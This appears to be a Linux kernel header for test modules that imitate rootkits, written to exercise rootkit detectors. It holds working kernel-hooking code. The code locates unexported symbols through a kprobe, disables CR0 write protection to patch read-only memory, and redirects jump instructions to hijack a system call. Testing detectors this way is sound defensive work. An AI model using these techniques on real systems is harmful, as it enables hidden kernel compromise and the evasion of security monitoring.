/* SPDX-License-Identifier: GPL-2.0 */
/*
 * Modules that do what rootkits do, for tests of the checks that find them. Each does one thing,
 * to what no test needs, and undoes it when it is unloaded, unless it hides.
 */
#ifndef ROOTKIT_H
#define ROOTKIT_H

#include <linux/kprobes.h>
#include <linux/module.h>

/* The system call that is taken over. */
#define VICTIM "__x64_sys_swapoff"

/* Kernels do not export their symbols any more, but a probe finds them. */
static inline unsigned long symbol_of(const char *name)
{
	unsigned long (*lookup)(const char *name);
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(name);
}

/* Write memory that is mapped read-only. */
static inline void overwrite(void *to, const void *from, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1UL << 16)) : "memory");
	memcpy(to, from, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* A jump of 5 bytes, whose distance is behind the byte of its code. */
#define JUMP 0xe9

enum { JUMP_LENGTH = 5 };

struct jump {
	u8 *at;
	s32 old;
};

static inline s32 distance_to(const u8 *jump, const void *to)
{
	OPTIMIZER_HIDE_VAR(to); /* objtool would ask for an endbr64 */
	return (s32)((const u8 *)to - (jump + JUMP_LENGTH));
}

/* Find one in that many bytes that leads to what is from one address up to another. */
static inline int find_jump(struct jump *jump, u8 *at, size_t most, unsigned long first,
			    unsigned long last)
{
	if (!at || !first || !last)
		return -ENOENT;
	for (u8 *end = at + most; at < end; at++) {
		unsigned long to;

		memcpy(&jump->old, at + 1, sizeof(jump->old));
		to = (unsigned long)(at + JUMP_LENGTH + jump->old);
		if (*at != JUMP || to < first || to > last)
			continue;
		jump->at = at;
		return 0;
	}
	return -ENOENT;
}

static inline void lead_jump(const struct jump *jump, const void *to)
{
	s32 by = distance_to(jump->at, to);

	overwrite(jump->at + 1, &by, sizeof(by));
}

static inline void lead_jump_back(const struct jump *jump)
{
	overwrite(jump->at + 1, &jump->old, sizeof(jump->old));
}

#endif /* ROOTKIT_H */
